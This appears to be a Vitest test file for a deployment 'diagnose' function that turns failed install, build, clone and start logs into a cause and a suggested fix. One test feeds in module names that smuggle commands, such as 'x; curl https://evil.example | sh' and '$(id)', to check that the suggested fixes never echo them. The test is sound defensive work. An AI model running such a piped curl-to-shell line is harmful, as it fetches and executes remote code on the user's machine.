import type { Deployment } from '@nephos/contracts';
import { describe, expect, test } from 'vitest';
import { diagnose } from '../../src/domains/assistant/local/reports/diagnose.ts';

const INSTALL = 'Install failed: npm ci exited with code 1. See the log for details.';
const BUILD = 'Build failed: npm run build exited with code 1. See the log for details.';
const START = 'Start failed: npm start exited with code 1.';

describe('the cause of a failed deployment', () => {
  const failed = (step: Deployment['step'], error: string) => ({ step, error }) as Deployment;
  test.each([
    [
      'detect',
      'package.json has neither a start script nor a main file, and there is no server.js or index.js.',
      '',
      'no start script',
      '"start"',
    ],
    [
      'detect',
      'The repository has no package.json. Node.js apps need one. It has main.py. Set the framework to python.',
      '',
      'package.json',
      'Settings',
    ],
    ['clone', 'Failed to clone the repository: it has no branch "mian".', '', '`mian`', 'branch'],
    [
      'clone',
      'Failed to clone the repository: the host git.example.test was not found.',
      '',
      '`git.example.test`',
      'Check the host name in the URL.',
    ],
    // As servers of the releases before wrote it down.
    [
      'clone',
      'Cloning the repository failed: it asks for a sign-in.',
      '',
      'asks for a sign-in',
      'a token that can read it',
    ],
    ['detect', 'The build made no site.', '', 'didn’t create an `index.html`', '`dist`'],
    [
      'start',
      'Start failed: npm start did not listen on port 41234 within 60 seconds. Make it listen on the port in the PORT environment variable.',
      '',
      '41234',
      'process.env.PORT',
    ],
    ['start', START, 'Error: listen EADDRINUSE: address already in use :::3000\n', '3000', '`PORT`'],
    [
      'start',
      START,
      "Error: Cannot find module 'express'\nRequire stack:",
      '`express`',
      'npm install express',
    ],
    [
      'start',
      START,
      "Error: Cannot find module './Routes/users'",
      '`./Routes/users`',
      'upper and lower case',
    ],
    [
      'start',
      'Start failed: python main.py exited with code 1.',
      "Traceback\nModuleNotFoundError: No module named 'flask.ext'",
      '`flask.ext`',
      'requirements.txt',
    ],
    [
      'install',
      INSTALL,
      'npm error code EUSAGE\nnpm error `npm ci` can only install packages when your package.json and package-lock.json are in sync.',
      'lockfile',
      'npm install',
    ],
    ['install', INSTALL, 'npm error code ERESOLVE', 'incompatible versions', 'lockfile'],
    [
      'install',
      'Install failed: pip install exited with code 1. See the log for details.',
      'ERROR: No matching distribution found for djangoo==9',
      '`djangoo==9`',
      'requirements.txt',
    ],
    [
      'build',
      'Build failed: npm run build exited with code 2. See the log for details.',
      "src/a.ts(1,2): error TS2322: Type 'string' is not assignable",
      'TypeScript',
      'build locally',
    ],
    ['build', 'Build failed: no index.html found in dist, build.', '', 'index.html', 'output folder'],
    [
      'start',
      START,
      'Error: connect ECONNREFUSED 127.0.0.1:5432',
      'ECONNREFUSED 127.0.0.1:5432',
      'Environment',
    ],
    [
      'start',
      'Start failed: python app.py exited with code 1.',
      "KeyError: 'DATABASE_URL'",
      '`DATABASE_URL`',
      'Environment',
    ],
    ['build', BUILD, 'FATAL ERROR: Reached heap limit - JavaScript heap out of memory', 'memory', 'memory'],
    [
      'start',
      'Start failed: npm start exited with code 0. An app must keep running.',
      '',
      'exited right after starting',
      'listening',
    ],
    [
      'build',
      'Build failed: npm run build was killed by SIGKILL. See the log for details.',
      '',
      'memory',
      'workers',
    ],
    [
      'build',
      'Build failed: npm run build was stopped because it used more than 2 GB of memory.',
      '',
      '2 GB',
      'workers',
    ],
    [
      'build',
      'Build failed: npm run build was stopped because it ran out of memory (2 GB).',
      '',
      'the memory limit of 2 GB',
      'the same for all projects',
    ],
    ['switch', 'The app crashed: web ran out of memory (512 MB).', '', '512 MB', '**Processes**'],
    [
      'start',
      'Start failed: npm start was stopped because it used more than 1 GB of memory.',
      '',
      '1 GB',
      '**Processes**',
    ],
    [
      'build',
      'Build failed: npm run build was stopped because it used more than 2 GB of disk.',
      '',
      '2 GB',
      'Storage',
    ],
    [
      'build',
      'Build failed: npm run build was stopped because it ran more than 256 processes.',
      '',
      '256',
      '-j2',
    ],
    [
      'build',
      'Build failed: npm run build was stopped because it took more than 15 minutes.',
      '',
      '15 minutes',
      'watcher',
    ],
    ['build', BUILD, 'npm error Missing script: "build"', '`build`', 'npm pkg set scripts.build='],
    ['install', INSTALL, 'npm error code EJSONPARSE', 'not valid JSON', 'npm pkg get name'],
    ['install', INSTALL, 'ERROR: Could not open requirements file: [Errno 2]', 'can’t be read', 'pip freeze'],
    ['install', INSTALL, 'Error: pg_config executable not found.', 'psycopg2', 'psycopg2-binary'],
    ['install', INSTALL, 'gyp ERR! find Python', 'compiled', 'build-essential'],
    [
      'build',
      BUILD,
      '[vite]: Rollup failed to resolve import "lodash/fp" from "src/a.js".',
      '`lodash/fp`',
      'npm install lodash\n',
    ],
    [
      'build',
      BUILD,
      "Module not found: Error: Can't resolve './App' in '/app/src'",
      '`./App`',
      'upper and lower case',
    ],
    [
      'start',
      START,
      'SyntaxError: Cannot use import statement outside a module',
      '`import`',
      '"type": "module"',
    ],
    ['build', BUILD, "code: 'ERR_OSSL_EVP_UNSUPPORTED'", 'webpack', 'NODE_OPTIONS'],
    [
      'install',
      INSTALL,
      'error demo@1.0.0: The engine "node" is incompatible with this module.',
      'than the project uses',
      'Set the Node.js version in the project’s **Settings**',
    ],
    ['build', BUILD, 'sh: 1: tsc: not found', '`tsc`', '`typescript`'],
    ['start', START, 'Error: getaddrinfo ENOTFOUND db.internal', '`db.internal`', 'deploy again'],
    ['build', BUILD, 'Error: ENOSPC: no space left on device, write', 'disk', 'free disk space'],
    [
      'detect',
      'The web line of the Procfile uses shell syntax; write one command with its arguments.',
      '',
      '`Procfile`',
      'web: gunicorn',
    ],
    [
      'clone',
      "Failed to clone the repository: the Git server's certificate is not valid.",
      '',
      'certificate',
      'address',
    ],
    ['detect', 'Python is not available: python3 is not installed on this server.', '', 'Python', 'venv'],
  ] as const)('at %s: "%s"', (step, error, log, cause, fix) => {
    const found = diagnose(failed(step, error), log);
    expect(found.cause).toContain(cause);
    expect(found.fix).toContain(fix);
  });

  test.each([
    "Error: Cannot find module 'x; curl https://evil.example | sh'",
    "Error: Cannot find module '--unsafe-perm'",
    "Error: Cannot find module '$(id)'",
    "ModuleNotFoundError: No module named 'x; curl https://evil.example | sh'",
  ])('never makes a command of what only a log says: %s', (log) => {
    expect(diagnose(failed('start', START), log).fix).not.toMatch(/curl|unsafe|\$\(|```/);
  });

  test('that is not known is left to the lines of the log and the step’s advice', () => {
    const found = diagnose(
      failed('health', 'Health check failed: /x returned 500 for 30 seconds.'),
      'one\n\ntwo\nboom failed\nthree',
    );
    expect(found).toMatchObject({ cause: '', lines: 'one\ntwo\nboom failed\nthree' });
    expect(found.fix).toContain('health path');
  });

  test('is shown with the lines around it, however long the log', () => {
    const noise = Array.from({ length: 100 }, (_, n) => `line ${n}`).join('\n');
    const { lines } = diagnose(
      failed('start', 'x'),
      `${noise}\nError: Cannot find module 'express'\n${noise}`,
    );
    expect(lines).toContain("Error: Cannot find module 'express'");
    expect(lines.split('\n').length).toBeLessThan(12);
  });
});
